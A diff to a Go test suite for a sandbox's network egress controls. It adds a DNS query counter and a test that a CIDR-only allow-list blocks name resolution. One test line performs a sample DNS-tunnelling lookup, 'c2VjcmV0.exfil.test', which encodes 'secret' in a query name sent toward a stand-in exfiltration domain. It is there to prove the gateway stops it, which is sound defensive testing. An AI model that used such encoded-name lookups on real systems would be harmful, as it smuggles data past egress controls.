@@ -196,9 +196,10 @@ func newOutside(t *testing.T) *outsideNet {
 
 // testDNS is a DNS server on loopback serving a table the test controls.
 type testDNS struct {
-	mu    sync.Mutex
-	names map[string]netip.Addr
-	addr  string
+	mu      sync.Mutex
+	names   map[string]netip.Addr
+	addr    string
+	queries int // how many queries reached it
 }
 
 func newTestDNS(t *testing.T) *testDNS {
@@ -214,6 +215,7 @@ func newTestDNS(t *testing.T) *testDNS {
 		m.SetReply(req)
 		q := req.Question[0]
 		s.mu.Lock()
+		s.queries++
 		a, ok := s.names[strings.TrimSuffix(q.Name, ".")]
 		s.mu.Unlock()
 		switch {
@@ -227,6 +229,13 @@ func newTestDNS(t *testing.T) *testDNS {
 	go srv.ActivateAndServe()
 	t.Cleanup(func() { srv.Shutdown() })
 	return s
+}
+
+// count is how many queries reached the server so far.
+func (s *testDNS) count() int {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.queries
 }
 
 func (s *testDNS) set(name string, a netip.Addr) {
@@ -336,6 +345,38 @@ func TestNetworkEgress(t *testing.T) {
 		t.Fatalf("bad policy: %d %+v", status, e)
 	}
 	d.mustBeRefused("egress", urlA)
+}
+
+// TestNetworkDNSNoTunnel: an allow-list of CIDRs only allows no names, so
+// the gateway resolves none and asks upstream nothing; a sandbox cannot
+// smuggle data out in query names.
+func TestNetworkDNSNoTunnel(t *testing.T) {
+	out := newOutside(t)
+	names := newTestDNS(t)
+	names.set("allowed.test", out.a)
+	d := startDaemon(t, "--dns-upstream", names.addr)
+	d.create(sdk.CreateSandboxRequest{Name: "cidrs", Egress: &sdk.EgressPolicy{Mode: sdk.EgressAllowList, CIDRs: []string{out.a.String()}}})
+	lookup := func(name string) (string, bool) {
+		res, err := d.client.Exec(context.Background(), "cidrs", sdk.ExecRequest{Cmd: []string{"nslookup", name}, TimeoutSeconds: 30})
+		if err != nil {
+			t.Fatalf("exec nslookup: %v", err)
+		}
+		return res.Stdout + res.Stderr, res.ExitCode == 0 && strings.Contains(res.Stdout, out.a.String())
+	}
+	for _, name := range []string{"allowed.test", "c2VjcmV0.exfil.test"} {
+		if got, ok := lookup(name); ok {
+			t.Fatalf("%s resolved under a CIDR-only allow-list: %s", name, got)
+		}
+	}
+	if n := names.count(); n != 0 {
+		t.Fatalf("the gateway asked upstream %d times under a policy that allows no names", n)
+	}
+	d.mustFetch("cidrs", "http://"+out.a.String()+":8080/", "A") // the CIDR still works
+	// Allowing the name resolves it (and proves the counter counts).
+	d.setEgress("cidrs", sdk.EgressPolicy{Mode: sdk.EgressAllowList, CIDRs: []string{out.a.String()}, Domains: []string{"allowed.test"}})
+	if got, ok := lookup("allowed.test"); !ok || names.count() == 0 {
+		t.Fatalf("an allowed name did not resolve: %s (upstream queries %d)", got, names.count())
+	}
 }
 
 func TestNetworkIsolation(t *testing.T) {
